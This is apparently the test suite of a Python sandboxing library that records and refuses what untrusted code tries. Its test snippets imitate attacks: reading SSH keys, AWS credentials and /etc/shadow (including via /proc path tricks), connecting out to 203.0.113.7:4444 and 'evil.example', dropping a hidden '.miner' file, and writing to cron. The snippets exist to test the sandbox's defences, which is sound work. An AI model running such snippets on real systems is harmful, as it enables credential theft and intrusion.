"""What the code tried, with real sandboxes: each program is named for what it tried, and nothing is invented."""

from __future__ import annotations

import os
import re
import select
import shutil
import signal
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

import sandbox_magic as sm
from sandbox_magic.jail.attempts import watcher as watching
from sandbox_magic.jail.kept.forker import forker
from sandbox_magic.jail.sandbox import Sandbox


@pytest.fixture(autouse=True)
def _elsewhere(tmp_path, monkeypatch):
    """What is saved is saved there."""
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")


def traced(code, **options):
    """Run code, watched."""
    options = {"warm": False, "memory": "1G", **options}
    result = sm.run(textwrap.dedent(code), trace=True, **options)
    assert result.attempts is not None, result.isolation
    return result


def tried(result):
    """Return what was tried, by kind and target."""
    return {(row.kind, row.target): row for row in result.attempts}


CALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *given):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(each) if isinstance(each, int) else each for each in given]
    return ctypes.get_errno() if libc.syscall(ctypes.c_long(number), *wide) == -1 else 0
machine = os.uname().machine
"""
NUMBERS = (
    "openat, open_by_handle, ptrace = {'x86_64': (257, 304, 101), 'aarch64': (56, 265, 117)}[machine]\nring = 425\n"
)


def test_a_credential_stealer_is_named_for_what_it_looked_for():
    result = traced(
        """
        import os
        for name in ("~/.ssh/id_rsa", "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials", "/etc/shadow"):
            try:
                open(os.path.expanduser(name)).read()
            except OSError:
                pass
        """
    )
    rows = tried(result)
    assert rows["open", "/home/sandbox/.ssh/id_rsa"].count == 2
    assert {row.answer for row in result.attempts.refused} == {"not shared"}
    assert len(result.attempts.refused) == 4
    assert "It looked for SSH keys (3 times). There are none in the sandbox." in result.notes
    assert "It looked for AWS credentials (once). There are none in the sandbox." in result.notes
    assert not result.attempts.suggestion, "a secret is never suggested"


def test_a_well_behaved_script_is_refused_nothing(tmp_path):
    data = tmp_path / "data.csv"
    data.write_text("a,b\n1,2\n")
    result = traced(
        """
        import csv, json, sqlite3, decimal, tempfile
        rows = list(csv.reader(open("data.csv")))
        json.dump(rows, open("out.json", "w"))
        with tempfile.NamedTemporaryFile() as file:
            file.write(b"x")
        sqlite3.connect("a.db").execute("create table t (x)")
        """,
        bind=data,
        save="out.json",
    )
    assert result.ok
    assert result.attempts.refused == ()
    assert result.notes == ("Saved: out.json.",)
    assert {("open", "data.csv"), ("open", "out.json")} <= set(tried(result))
    assert result.attempts.ordinary > 20, "its own environment is one number"


def test_a_script_that_plots_is_refused_nothing_and_lists_its_own_files():
    result = traced(
        """
        import multiprocessing
        import matplotlib, pandas
        matplotlib.use("agg")
        import matplotlib.pyplot as plt
        table = pandas.DataFrame({"a": [1, 2]})
        table.to_csv("table.csv")
        plt.plot(pandas.read_csv("table.csv").a)
        plt.savefig("plot.png")
        multiprocessing.Lock()
        """,
        timeout=300,
    )
    assert result.ok, result.stderr
    assert result.attempts.refused == ()
    assert {row.target for row in result.attempts if row.kind != "run"} == {"table.csv", "plot.png"}


def test_a_shell_is_run_once_where_it_is():
    assert [(row.kind, row.count) for row in traced("exit 0", language="bash").attempts] == [("run", 1)]


def test_a_reverse_shell_is_named_for_where_it_connects():
    result = traced(
        """
        import socket, subprocess
        s = socket.socket()
        try:
            s.connect(("203.0.113.7", 4444))
        except OSError:
            subprocess.run(["/bin/sh", "-c", "exit 0"])
        """
    )
    rows = tried(result)
    assert rows["connect", "203.0.113.7:4444"].answer == "no network"
    assert rows["run", "/bin/sh"].answer == "allowed"
    assert [mark.label for mark in result.timeline.marks] == ["no network: connect 203.0.113.7:4444"]


def test_datagrams_are_named_with_their_address_and_a_service_of_its_own_is_allowed():
    result = traced(
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for address in (("198.51.100.1", 53), ("127.0.0.1", 9)):
            try:
                s.sendto(b"x", address)
            except OSError:
                pass
        try:
            socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
        except OSError:
            pass
        """
    )
    rows = tried(result)
    assert rows["send", "198.51.100.1:53"].answer == "no network"
    assert rows["send", "127.0.0.1:9"].answer == "allowed"
    assert rows["connect", "/var/run/docker.sock"].answer == "not shared"
    assert "It looked for the Docker socket (once). There are none in the sandbox." in result.notes


def test_the_line_of_the_cell_and_the_names_of_hosts_are_the_codes_own_word():
    code = """
        import os, socket, subprocess
        def look(name):
            try: open(name)
            except OSError: pass
        look(os.path.expanduser("~/.ssh/id_rsa"))
        os.system("true")
        subprocess.run(["true"])
        for host in ("evil.example", "198.51.100.1", "localhost"):
            try: socket.create_connection((host, 443))
            except OSError: pass
        if os.fork() == 0:
            look("/root/.netrc")
            os._exit(0)
        os.wait()
        """
    with sm.Session(trace=True) as session:
        for result in (traced(code), session.run(textwrap.dedent(code))):
            rows = tried(result)
            for key, answer, line in (
                (("open", "/home/sandbox/.ssh/id_rsa"), "not shared", 4),
                (("run", "/bin/sh"), "allowed", 7),
                (("run", "/usr/bin/true"), "allowed", 8),
                (("look up", "evil.example"), "no network", 10),
                (("connect", "198.51.100.1:443"), "no network", 10),
                (("look up", "localhost"), "allowed", 10),
                (("open", "/root/.netrc"), "not shared", None),
            ):
                assert (rows[key].answer, rows[key].line) == (answer, line), key
            assert [row.target for row in result.attempts if row.kind == "look up"] == ["evil.example", "localhost"]
        assert session.attempts is not None
        assert {row.line for row in session.attempts} == {None}


def test_refused_calls_through_ctypes_are_named_and_answered_as_in_any_run():
    code = (
        CALL
        + NUMBERS
        + """
import socket
print(call(ptrace, 0, 0, 0, 0), call(open_by_handle, 0, 0, 0), call(ring, 4, 0))
for family, kind in ((17, 3), (2, 3), (38, 5)):
    try:
        socket.socket(family, kind)
    except OSError as error:
        print(error.errno)
print(call({"x86_64": 317, "aarch64": 277}[machine], 1, 8, 0))
"""
    )
    result = traced(code)
    assert result.stdout == sm.run(code, warm=False).stdout == "1 1 1\n1\n1\n1\n1\n"
    names = {row.target: row.count for row in result.attempts if row.kind == "call"}
    assert names == {"ptrace": 1, "open_by_handle_at": 1, "io_uring_setup": 1, "socket": 3}


def test_a_file_opened_by_a_call_that_seems_absent_is_named_too():
    code = CALL + "print(call(437, -100, b'/root/.netrc', bytes(24), 24), call(437, -100, b'/tmp/x', b'\\1' * 24, 24))"
    result = traced(code)
    assert result.stdout == sm.run(code, warm=False).stdout == "38 38\n"
    rows = tried(result)
    assert (rows["open", "/root/.netrc"].answer, rows["open", "/tmp/x"].answer) == ("not shared", "allowed")


def test_a_dropper_is_named_for_what_it_writes_runs_and_removes():
    result = traced(
        """
        import os, shutil, subprocess
        shutil.copy("/bin/true", "/tmp/.miner")
        os.chmod("/tmp/.miner", 0o755)
        subprocess.run(["/tmp/.miner"])
        os.rename("/tmp/.miner", "/tmp/.cache")
        os.remove("/tmp/.cache")
        for name in ("/etc/cron.d/x", "/usr/bin/x"):
            try:
                open(name, "w")
            except OSError:
                pass
        try:
            os.remove("/usr/bin/true")
        except OSError:
            pass
        """
    )
    rows = tried(result)
    for key in (("run", "/tmp/.miner"), ("rename", "/tmp/.miner -> /tmp/.cache"), ("remove", "/tmp/.cache")):
        assert rows[key].answer == "allowed"
    refused = {(row.kind, row.target) for row in result.attempts.refused}
    assert refused == {("open", "/etc/cron.d/x"), ("open", "/usr/bin/x"), ("remove", "/usr/bin/true")}


def test_a_name_through_proc_is_told_as_it_was_named():
    result = traced(
        """
        import os
        os.dup2(os.open("/", os.O_RDONLY), 9)
        for name in (
            "/proc/self/root/etc/shadow", "/usr/lib/../../etc/shadow", "/proc/1/root/etc/shadow",
            "/proc/self/cwd/../../etc/shadow", "/proc/self/fd/9/etc/shadow",
        ):
            try:
                open(name)
            except OSError:
                pass
        """
    )
    assert {row.target for row in result.attempts.refused} == {
        "/proc/self/root/etc/shadow",
        "/usr/lib/../../etc/shadow",
        "/proc/1/root/etc/shadow",
        "/proc/self/cwd/../../etc/shadow",
        "/proc/self/fd/9/etc/shadow",
    }
    assert "It looked for password hashes (5 times). There are none in the sandbox." in result.notes


def test_an_undumpable_child_is_named_too():
    result = traced(
        """
        import ctypes, os
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
            try:
                open("/root/.netrc")
            except OSError:
                os._exit(0)
        os.wait()
        """
    )
    assert ("open", "/root/.netrc") in tried(result)


def test_a_static_binary_is_named_too():
    program = shutil.which("ldconfig.real", path="/usr/sbin:/sbin") or "/usr/sbin/ldconfig"
    assert b"ld-linux" not in Path(program).read_bytes()[:4096], "it names no loader"
    result = traced(f"{program} -p -C /root/.pgpass || true", language="bash")
    assert ("open", "/root/.pgpass") in tried(result)


def test_a_shell_script_is_watched_as_a_cell_is():
    result = traced("cat /root/.pgpass || true", language="bash")
    assert tried(result)["open", "/root/.pgpass"].process == "cat"


def test_a_hundred_threads_are_counted_to_the_last_call():
    result = traced(
        """
        import threading
        def look(number):
            for _ in range(10):
                try:
                    open(f"/nowhere/{number % 7}")
                except OSError:
                    pass
        threads = [threading.Thread(target=look, args=(number,)) for number in range(100)]
        for thread in threads: thread.start()
        for thread in threads: thread.join()
        """,
        processes=150,
    )
    assert sum(row.count for row in result.attempts if row.target.startswith("/nowhere/")) == 1000


def test_signals_do_not_make_one_call_two():
    result = traced(
        """
        import signal
        signal.signal(signal.SIGALRM, lambda *_: None)
        signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
        for number in range(500):
            try:
                open("/nowhere/at/all")
            except OSError:
                pass
        """
    )
    assert tried(result)["open", "/nowhere/at/all"].count == 500


def test_a_name_that_cannot_be_read_is_said_to_be_hidden():
    result = traced(CALL + NUMBERS + "print(call(openat, -100, 0x10, 0))")
    assert result.stdout == "14\n", "EFAULT, as ever"
    assert ("open", "(a name that it hid)") in tried(result)


def test_a_name_cannot_write_to_the_terminal():
    result = traced(
        r"""
        for name in ("/nowhere/\x1b[2J\u202ea", b"/nowhere/\xff\n<b>"):
            try:
                open(name)
            except OSError:
                pass
        """
    )
    assert all(row.target.isprintable() for row in result.attempts)
    assert "<b>" not in result._repr_mimebundle_()["text/html"]


def test_the_list_is_bounded():
    result = traced(
        """
        for number in range(2500):
            try:
                open(f"/nowhere/{number}")
            except OSError:
                pass
        import socket
        try:
            socket.socket().connect(("203.0.113.7", 4444))
        except OSError:
            pass
        """
    )
    assert len(result.attempts) == 1801, "what is rarer has room of its own"
    assert ("connect", "203.0.113.7:4444") in tried(result)
    assert result.attempts.more >= 700


def test_what_is_not_shared_is_suggested_and_not_given(tmp_path):
    file = tmp_path / "numbers.csv"
    file.write_text("1")
    result = traced(f"open({str(file)!r})")
    assert result.outcome is sm.Outcome.FAILED
    assert tried(result)["open", str(file)].answer == "not shared"
    assert result.attempts.suggestion == f"--bind {file}"
    assert traced("print(open('numbers.csv').read())", bind=file).attempts.refused == ()


@pytest.mark.parametrize(
    ("code", "options"),
    [
        ("print(1); 1 / 0", {}),
        ("import os; os.kill(os.getpid(), 9)", {}),
        ("print(1)\nwhile True: pass", {"cpu_time": 1, "timeout": 60}),
        ("x = bytearray(10**9)", {"memory": "100M"}),
        ("import subprocess; print(subprocess.run(['ls', '/'], capture_output=True, text=True).stdout)", {}),
        ("open('a', 'w').write('b'); print(open('a').read())", {"save": "a"}),
        ("from os import fork, wait\nfor _ in range(9):\n    fork() or exit()\n    wait()\nprint('end')", {}),
    ],
)
def test_a_run_ends_the_same_watched_or_not(code, options):
    plain, watched = (sm.run(code, warm=False, trace=trace, **options) for trace in (False, True))
    for name in ("outcome", "exit_code", "signal", "stdout", "files"):
        assert getattr(plain, name) == getattr(watched, name)
    assert re.sub("0x[0-9a-f]+", "", plain.stderr) == re.sub("0x[0-9a-f]+", "", watched.stderr)
    assert plain.attempts is None


def test_a_spare_that_is_watched_lists_its_own_run_alone(spares):
    for number in range(3):
        result = traced(f"try: open('/nowhere/{number}')\nexcept OSError: pass", warm=True, preload="json")
        assert {row.target for row in result.attempts} == {f"/nowhere/{number}"}
        assert result.usage.warm is (number > 0)
        assert spares.filled(30)
    assert sm.run("pass", preload="json").attempts is None
    assert not sm.run("pass", preload="json").usage.warm or spares.filled(30)


def test_a_spare_that_is_watched_no_more_is_not_used(spares):
    traced("pass", warm=True)
    assert spares.filled(30)
    (spare,) = spares._spares
    end(spare.sandbox.watcher)
    result = traced("try: open('/nowhere')\nexcept OSError: pass", warm=True)
    assert (result.usage.warm, result.attempts.complete, len(result.attempts)) == (False, True, 1)


def test_the_cell_does_not_wait_for_a_notebook_that_computes():
    """What answers is no thread of this interpreter: while it holds its lock the cell goes on."""
    code = "for _ in range(1000):\n    open('/tmp/x', 'w').close()\n"
    with sm.stream(code, trace=True, warm=False, timeout=60) as run:
        next(run)  # it is started
        until = time.monotonic() + 40
        while not has_ended(run._loop.sandbox.pid):
            assert time.monotonic() < until
            sum(range(5_000_000))  # holds the lock for a tenth of a second; nobody asks for events
        for _ in run:
            pass
    assert run.result.ok


def has_ended(pid):
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] in "ZX"
    except (FileNotFoundError, ProcessLookupError):
        return True


def test_when_what_watches_dies_the_run_ends_and_says_so():
    code = "print('up', flush=True)\nwhile True: open('/tmp/x', 'w').close()"
    with sm.stream(code, trace=True, warm=False) as run:
        for event in run:
            if isinstance(event, sm.Text) and event.text.startswith("up"):
                end(run._loop.sandbox.watcher)
    assert run.result.outcome is not sm.Outcome.COMPLETED
    assert not run.result.attempts.complete
    assert any("ended before it" in note for note in run.result.notes)
    assert run.result.ending == "ended, for what watched it had ended"


def unable(_self):
    """Be a kernel that gives no listener."""
    raise watching.NotWatched("the kernel gives no listener")


def test_where_it_cannot_be_watched_it_says_so_and_strict_refuses(monkeypatch):
    monkeypatch.setattr(watching.Watcher, "wait_until_watching", unable)
    result = sm.run("print(1)", trace=True, warm=False)
    assert (result.stdout, result.attempts) == ("1\n", None)
    assert result.isolation["attempts"].strength == "none"
    assert "not watched here" in result.isolation["attempts"].text
    with pytest.raises(sm.SandboxUnavailable, match="attempts"):
        sm.run("print(1)", trace=True, strict=True, warm=False)


def test_the_doctor_says_whether_it_can_be_watched_and_why_not(monkeypatch):
    assert "\n--trace: can list what the code tries\n" in f"{sm.diagnose()}\n"
    monkeypatch.setattr(watching.Watcher, "wait_until_watching", unable)
    found = sm.diagnose()
    assert found.ok
    assert found.not_watched in str(found)
    assert re.fullmatch(
        "not watched here: .* \\(the kernel gives no listener\\). It needs Linux 5.9 or later, .*", found.not_watched
    )


def test_a_sandbox_that_is_not_watched_has_the_filter_of_any_run(monkeypatch):
    """What lets refused calls through is never in force alone."""
    monkeypatch.setattr(watching.Watcher, "wait_until_watching", unable)
    result = sm.run(CALL + NUMBERS + "print(call(ptrace, 0, 0, 0, 0), call(ring, 4, 0))", trace=True, warm=False)
    assert result.stdout == "1 1\n"


def test_the_command_prints_the_list(tmp_path):
    script = tmp_path / "script.py"
    script.write_text("try: open('/etc/shadow')\nexcept OSError: print('no')")
    command = [sys.executable, "-P", "-m", "sandbox_magic", "run", "--trace", str(script)]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    assert done.stdout == "no\n"
    assert "sandbox: It looked for password hashes (once). There are none in the sandbox.\n" in done.stderr
    assert "sandbox: what it tried: 1 not allowed, " in done.stderr
    assert re.search(r"sandbox:   open  /etc/shadow  1  \d\.\d{3} s  not shared  line 1, it says\n", done.stderr)


def told(attempts):
    """Return how often each thing was tried."""
    return {row.target: row.count for row in attempts}


WRITE = "open('/tmp/{}', 'w').close()"
LATER = """
import threading
go_on = threading.Event()
def write():
    go_on.wait()
    open('/tmp/between', 'w').close()
    written.set()
written = threading.Event()
thread = threading.Thread(target=write)
thread.start()
"""


def test_each_cell_of_a_session_has_its_own_list_and_the_session_all_of_them():
    with sm.Session(trace=True, memory="1G") as session:
        assert session.attempts is None
        assert told(session.run("import json").attempts) == {}
        assert told(session.run(WRITE.format("a")).attempts) == {"/tmp/a": 1}
        assert told(session.run(WRITE.format("a") + "\ntry: open('/etc/shadow')\nexcept OSError: pass").attempts) == {
            "/tmp/a": 1,
            "/etc/shadow": 1,
        }
        killed = session.run(f"{WRITE.format('killed')}\nimport os; os._exit(3)")
        assert (killed.restored, told(killed.attempts)) == (True, {"/tmp/killed": 1})
        after = session.run(WRITE.format("after"))
        assert told(after.attempts) == {"/tmp/after": 1}
        session.undo()
        whole = session.attempts
        assert whole is not None
        assert told(whole) == {"/tmp/a": 2, "/etc/shadow": 1, "/tmp/killed": 1, "/tmp/after": 1}
        assert [row.target for row in whole.refused] == ["/etc/shadow"]
        moments = [row.first_seconds for row in whole]
        assert moments == sorted(moments)
        assert "<td>/etc/shadow</td>" in whole._repr_html_()
    assert session.attempts is not None
    assert session.attempts.rows == whole.rows


def test_what_a_thread_does_between_two_cells_is_the_sessions_alone():
    with sm.Session(trace=True, undo=0) as session:
        session.run(f"{LATER}threading.Timer(1, go_on.set).start()").check()
        goes_on = session._lease.sandbox._is_counted  # else all is stopped between cells, for nobody holds its limits
        deadline = time.monotonic() + 60
        while goes_on and "/tmp/between" not in told(session.attempts) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert told(session.run("thread.join()").attempts) == ({} if goes_on else {"/tmp/between": 1})
        assert told(session.attempts) == {"/tmp/between": 1}


def test_the_list_of_a_session_can_be_seen_while_its_cell_runs():
    with sm.Session(trace=True) as session:
        with session.stream(f"{WRITE.format('now')}\nprint('up', flush=True)\ninput()") as run:
            for event in run:
                if isinstance(event, sm.Text):
                    assert told(session.attempts) == {"/tmp/now": 1}
        assert told(run.result.attempts) == {"/tmp/now": 1}


def test_a_session_ends_with_what_watches_it_and_says_so():
    with sm.Session(trace=True) as session:
        session.run("x = 1").check()
        watcher = session._lease.sandbox.watcher
        with session.stream("print('up', flush=True)\nwhile True: open('/tmp/x', 'w').close()") as run:
            for event in run:
                if isinstance(event, sm.Text) and watcher.alive:  # a traceback may follow
                    end(watcher)
        assert run.result.outcome is not sm.Outcome.COMPLETED
        assert any("ended before it" in note for note in run.result.notes)
        assert not any("destroyed" in note for note in run.result.notes), "it was not the code"
        assert not session.alive
        assert not session.attempts.complete
        assert session.run("'x' in globals()").displays[-1].data["text/plain"] == "False"
        end(session._lease.sandbox.watcher)
        again = session.run("1")
        assert again.ok
        assert any("began anew" in note for note in again.notes)


def test_who_is_interrupted_while_he_waits_for_an_answer_leaves_none_to_the_next_cell():
    with sm.Session(trace=True) as session:
        session.run("open('/tmp/first', 'w').close()").check()
        watcher = session._lease.sandbox.watcher
        watcher._words.settimeout(60)
        signal.pidfd_send_signal(watcher._process, signal.SIGSTOP)
        press = threading.Timer(0.5, signal.pthread_kill, (threading.get_ident(), signal.SIGINT))
        with pytest.raises(KeyboardInterrupt):
            press.start() or session.attempts
        signal.pidfd_send_signal(watcher._process, signal.SIGCONT)
        assert told(session.run("open('/tmp/second', 'w').close()").attempts) == {"/tmp/second": 1}
        assert told(session.attempts) == {"/tmp/first": 1, "/tmp/second": 1}


def end(watcher):
    """End what watches, as if it had died."""
    signal.pidfd_send_signal(watcher._process, signal.SIGKILL)
    assert select.select([watcher._process], [], [], 60)[0]


def test_nothing_is_left(footprint):
    traced("pass")
    before = footprint()
    for _ in range(3):
        traced("open('/tmp/x', 'w')")
    assert footprint() == before


def test_what_forks_the_watching_process_is_one_and_started_again_when_it_has_ended():
    first = forker._process
    assert first is None or first.poll() is None
    traced("pass")
    again = forker._process
    assert again is not None
    assert first in (None, again)
    again.kill()
    again.wait()
    assert told(traced("open('/tmp/x', 'w').close()").attempts) == {"/tmp/x": 1}
    assert forker._process is not again


def test_a_forked_copy_of_this_process_has_its_own():
    """Also of one in which another thread was just using it."""
    traced("pass")
    ours = forker._process
    reads, writes = os.pipe()
    lock = forker._lock
    lock.acquire()
    copy = os.fork()
    if copy == 0:
        try:
            found = sm.run("open('/tmp/x', 'w').close()", trace=True, warm=False).attempts
            os.write(writes, b"%d" % (len(found or ()) == 1 and forker._process is not ours))
        finally:
            os._exit(0)
    lock.release()
    os.close(writes)
    assert os.read(reads, 1) == b"1"
    os.close(reads)
    os.waitpid(copy, 0)
    assert told(traced("open('/tmp/x', 'w').close()").attempts) == {"/tmp/x": 1}
    assert forker._process is ours


def test_the_listener_and_its_socket_are_not_in_the_cell():
    code = "import os; print(sorted(int(each) for each in os.listdir('/proc/self/fd'))[:-1])"
    assert traced(code).stdout == sm.run(code, warm=False).stdout


def test_parking_says_which_filter_is_in_force():
    """The process that runs the cell has one more filter than PID 1."""
    sandbox = Sandbox.park(sm.Policy(trace=True))
    try:
        counts = []
        for pid in (sandbox.pid, sandbox._cell_pid()):
            with open(f"/proc/{pid}/status") as lines:
                counts += [int(line.split()[1]) for line in lines if line.startswith("Seccomp_filters")]
        assert counts == [] or counts[1] == counts[0] + 1
        assert sandbox.watcher.alive
    finally:
        sandbox.close()
